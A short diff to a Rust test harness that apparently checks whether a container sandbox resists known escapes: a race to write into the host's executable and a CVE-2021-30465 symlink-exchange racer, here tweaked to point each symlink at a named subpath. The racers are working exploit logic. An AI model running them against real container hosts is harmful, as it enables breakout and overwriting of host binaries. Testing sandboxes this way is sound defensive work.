@@ -14,8 +14,8 @@
 //!   until the file STOP exists or SECS pass; a successful open writes `HULL-PWNED` at the
 //!   start of that binary and prints `pwned PATH`, else `safe handles=N {errors}`.
 //! - `swap TARGET STOP PATH...`: CVE-2021-30465's racer: makes each PATH a directory with a
-//!   sibling `PATH~` symlink to TARGET and keeps exchanging the two (renameat2
-//!   RENAME_EXCHANGE) until STOP exists; prints `swaps=N`.
+//!   sibling `PATH~` symlink to `TARGET/<PATH's name>` and keeps exchanging the two
+//!   (renameat2 RENAME_EXCHANGE) until STOP exists; prints `swaps=N`.
 
 use std::ffi::CString;
 use std::io::Error;
@@ -201,7 +201,9 @@ fn exe_attack(stop: &str, secs: &str) -> Result<String, String> {
             // SAFETY: `exe` is a valid NUL-terminated path.
             let fd = unsafe { libc::open(exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
             if fd < 0 {
-                *errs.entry(format!("open-exe errno={}", errno())).or_default() += 1;
+                *errs
+                    .entry(format!("open-exe errno={}", errno()))
+                    .or_default() += 1;
                 continue;
             }
             let key = std::fs::metadata(format!("/proc/self/fd/{fd}"))
@@ -231,7 +233,8 @@ fn exe_attack(stop: &str, secs: &str) -> Result<String, String> {
 fn swap(target: &str, stop: &str, paths: &[String]) -> Result<String, String> {
     for p in paths {
         let _ = std::fs::create_dir_all(p);
-        let _ = std::os::unix::fs::symlink(target, format!("{p}~"));
+        let name = p.rsplit('/').next().unwrap_or(p);
+        let _ = std::os::unix::fs::symlink(format!("{target}/{name}"), format!("{p}~"));
     }
     let pairs: Vec<(CString, CString)> = paths
         .iter()
